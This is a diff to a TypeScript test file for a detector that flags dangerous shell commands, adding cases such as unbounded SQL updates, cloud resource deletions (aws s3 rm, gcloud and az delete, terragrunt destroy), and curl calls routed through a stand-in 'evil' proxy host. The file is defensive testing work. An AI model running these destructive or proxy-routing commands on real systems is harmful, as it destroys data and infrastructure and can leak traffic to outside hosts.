@@ -1,3 +1,4 @@
+import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { isCovered } from '../../src/core/grant-rules.ts';
 import { dangersOf } from '../../src/text/danger.ts';
@@ -893,6 +894,9 @@ const dangers: [what: string, expected: RegExp, hits: string[], misses: string[]
       psql -c "UPDATE users SET a=1 WHERE true"
       psql -c "UPDATE users SET a=1 WHERE 1 = 1"
       psql -c "UPDATE users SET a=1 -- WHERE id = 1"
+      psql -c "UPDATE users SET a=1 WHERE id = 1 OR 1=1"
+      psql -c "UPDATE users SET a='where'"
+      mysql -e 'UPDATE users SET a="where b"'
       psql -c "UPDATE users SET a=(select b from c where d=1)"
       psql -c "UPDATE users SET a=1; SELECT 1 FROM a WHERE b"
       psql --command="UPDATE users SET a=1"
@@ -933,6 +937,8 @@ const dangers: [what: string, expected: RegExp, hits: string[], misses: string[]
     lines(`
       psql -c "UPDATE users SET a=1 WHERE id = 7"
       psql -c "update users set a='where', b=2 where id in (1, 2)"
+      psql -c "update users set a=1 where id = 1 or id = 2"
+      mysql -e 'UPDATE users SET a="b" WHERE c="d"'
       mysql -e "UPDATE users SET a=1 WHERE id=1; SELECT 1"
       echo "UPDATE users SET a=1 WHERE id=1" | psql
       sqlite3 a.db "select * from updates set"
@@ -1619,6 +1625,17 @@ describe('it is seen in any order of options, and through what starts it', () =>
       conda run -n x alembic downgrade base
       pixi run alembic downgrade base
       corepack yarn sequelize db:drop
+      aws --prof sso s3 rm s3://b/a
+      aws configure set aws_access_key_id x
+      gcloud compute instances -q delete a
+      gcloud -q compute instances delete a
+      az vm -y delete -n a
+      az vm delete --yes -n a
+      curl -x evil.x:80 -d a=b http://localhost
+      curl --connect-to ::evil:80 -d a=b http://localhost
+      terragrunt run --all destroy
+      terragrunt run --all apply
+      hcloud -o json server delete 1
     `),
   )('%s', (command) => {
     expect(shell(command)).not.toBe('');
@@ -1638,6 +1655,31 @@ test.each([
   ['curl -X DELETE https://x.y/1', 'asks a server to delete something (curl -X DELETE)'],
 ])('%s: %s', (command, expected) => {
   expect(shell(command)).toBe(expected);
+});
+
+test('options before the command and between its words hide nothing', () => {
+  const option = fc.constantFrom('-v', '-n x', '--name x', '--name=x', '--all', '-q', '--context get', '-o list');
+  const call = fc.constantFrom(
+    'kubectl delete pod',
+    'docker rm --force',
+    'docker volume rm',
+    'helm uninstall web',
+    'terraform state rm',
+    'vault kv delete',
+    'heroku pg:reset x',
+    'pulumi stack rm',
+    'wrangler r2 bucket delete',
+    'gcloud compute instances delete',
+  );
+
+  fc.assert(
+    fc.property(call, fc.array(fc.option(option), { minLength: 5, maxLength: 5 }), (command, options) => {
+      const words = command.split(' ').flatMap((word, at) => [word, options[at] ?? '']);
+
+      expect(shell(words.join(' '))).not.toBe('');
+    }),
+    { numRuns: 300 },
+  );
 });
 
 describe('databases behind other tools', () => {
